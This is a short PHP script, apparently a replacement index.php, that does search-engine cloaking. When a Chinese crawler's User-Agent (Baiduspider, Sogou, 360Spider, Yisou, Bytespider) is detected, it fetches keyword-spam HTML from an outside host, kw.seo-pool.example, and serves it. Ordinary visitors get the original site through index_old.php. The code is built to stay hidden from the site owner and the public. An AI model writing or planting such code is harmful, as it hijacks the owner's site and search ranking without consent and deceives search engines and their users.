<?php
// 蜘蛛来了就给它看远程关键词页面，普通访客看原站
$s = strtolower(isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '');
$spiders = array('baiduspider', 'sogou web spider', '360spider', 'yisouspider', 'bytespider');
$hit = false;
foreach ($spiders as $sp) {
    if (strpos($s, $sp) !== false) { $hit = true; break; }
}
if ($hit) {
    $api = 'http://kw.seo-pool.example/get.php?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']);
    $html = @file_get_contents($api);
    if ($html) {
        echo $html;
        exit;
    }
}
require __DIR__ . '/index_old.php';
